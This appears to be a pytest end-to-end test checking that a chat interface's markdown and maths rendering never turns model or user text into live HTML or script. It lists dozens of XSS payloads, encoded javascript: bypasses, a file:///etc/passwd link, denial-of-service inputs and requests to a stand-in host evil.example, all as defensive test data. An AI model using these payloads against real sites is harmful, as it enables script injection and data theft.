"""Texts that try to become more than text: 25 attacks in 20 disguises, and a list of known ones."""

from __future__ import annotations

import itertools
from collections.abc import Sequence
from typing import Any

import pytest

from tests.e2e.page.browser import opened, response_of, send
from tests.e2e.server import Server

ATTACKS = (
    "<script>window.hit=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=//evil.example/p.png>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=key autofocus onfocus=window.hit=1></form>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>",
    "<a href=javascript:window.hit=1>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:window.hit=1",
    "' onmouseover='window.hit=1' x='",
    '"><img src=x onerror=window.hit=1>',
)
DISGUISES = (
    "{}",
    "text {} text",
    "[click]({})",
    "[click](<{}>)",
    "[{}](https://example.org)",
    "![{}](x)",
    "![x]({})",
    "[click](https://example.org \"{}\")",
    "[click][one]\n\n[one]: {}",
    "<{}>",
    "# {}",
    "- {}\n- x",
    "> {}",
    "| {} | b |\n| --- | --- |\n| {} | c |",
    "```{}\ncode\n```",
    "```html\n{}\n```",
    "`{}`",
    "$\\text{{{}}} \\href{{{}}}{{x}}$",
    "$$\n{}\n$$",
    "**{}** ~~{}~~",
)  # fmt: skip
KNOWN = (
    r"$\href{javascript:window.hit=1}{x}$",
    r"$\url{javascript:window.hit=1}$",
    r"$\includegraphics{//evil.example/p.png}$",
    r"$\style{background:url(//evil.example/p.png)}{x}$",
    r"$\class{quiet}{x} \id{prompt}{y} \data{x=1}{z}$",
    r"$\def\a{\a\a}\a$",
    r"$$\rule{1000000em}{1000000em}$$",
    "$" + "{" * 3000 + "$",
    "[x](java\tscript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](&#106;avascript:window.hit=1)",
    "[x](javascript&colon;window.hit=1)",
    "[x](\x01javascript:window.hit=1)",
    "[x](//evil.example/)",
    "[x](/v1/models)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://x/y)",
    "<https://example.org/\"onclick=window.hit=1>",
    "<javascript:window.hit=1>",
    "https://example.org/<script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "```\" onmouseover=window.hit=1 x=\"\nx\n```",
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version='1.0'?><script>window.hit=1</script>",
    "\u2028<script>window.hit=1</script>\u2029",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "[" * 2000,
    "> " * 2000 + "x",
    "*" * 5000,
    "<" * 5000,
    "|" * 500 + "\n" + "|-" * 500 + "|\n" + "|x" * 500,
)  # fmt: skip

# What an answer may consist of, beside MathML: elements, and their attributes.
ELEMENTS = {
    "article", "div", "span", "button", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "blockquote", "em", "strong",
    "del", "table", "thead", "tbody", "tr", "th", "td", "br", "hr", "code", "pre", "a", "details", "summary", "bdi",
}  # fmt: skip
ATTRIBUTES = {
    "class", "dir", "data-state", "data-open", "data-copy", "hidden", "tabindex", "role", "aria-label", "type", "start",
    "href", "target", "rel", "title", "open",
}  # fmt: skip
LOOK = """() => [...document.querySelectorAll(".turn :is(.asked, .answer, .thought) *")].map((one) => [
    one.namespaceURI, one.localName, Object.fromEntries([...one.attributes].map(({name, value}) => [name, value])),
])"""
# Everything else of the page: it is the same whatever was said.
FURNITURE = """() => [...document.querySelectorAll("head *, body *")].filter((one) =>
    !one.parentElement.closest(".asked, .answer, .thought")
    && !(one.localName === "script" && one.src.includes("/static/"))
).map((one) => one.localName)"""
MATHS = "http://www.w3.org/1998/Math/MathML"


def disguised() -> list[str]:
    pairs = itertools.product(ATTACKS, DISGUISES)
    found = [disguise.format(*(attack,) * disguise.count("{}")) for attack, disguise in pairs]
    assert len(found) == 500
    return found


@pytest.mark.slow
@pytest.mark.parametrize("corpus", [KNOWN, disguised()], ids=["known", "all"])
def test_no_text_of_a_model_or_a_user_becomes_more_than_text(
    browser: Any, server: Server, corpus: Sequence[str]
) -> None:
    said: list[str] = []

    def answer(asked: dict[str, Any]) -> list[dict[str, Any]]:
        return response_of(said[-1]) if asked["type"] == "response.create" else []

    with opened(browser, server.url, answer) as page:
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: requests.append("a dialog"))
        furniture: list[str] | None = None
        for text in ("plain", *corpus):
            said.append(text)
            page.click("#new")
            send(page, text[:2000])
            page.wait_for_selector(".turn[data-state=done]")
            for space, tag, attributes in page.evaluate(LOOK):
                if space == MATHS:
                    assert not [one for one in attributes if one.startswith("on") or "href" in one], text
                    assert tag not in {"maction", "annotation-xml", "mglyph"}, text
                    continue
                assert space == "http://www.w3.org/1999/xhtml", (text, space, tag)
                assert tag in ELEMENTS, (text, tag)
                assert attributes.keys() <= ATTRIBUTES, (text, tag, attributes)
                assert tag != "a" or attributes["href"].startswith(("https://", "http://", "mailto:")), (
                    text,
                    attributes,
                )
            furniture = furniture or page.evaluate(FURNITURE)
            assert page.evaluate(FURNITURE) == furniture, text
            assert page.evaluate("window.hit") is None, text
        page.mouse.move(400, 300)
        page.wait_for_timeout(300)
        assert page.evaluate("window.hit") is None
        assert [url for url in requests if not url.startswith(server.url)] == []
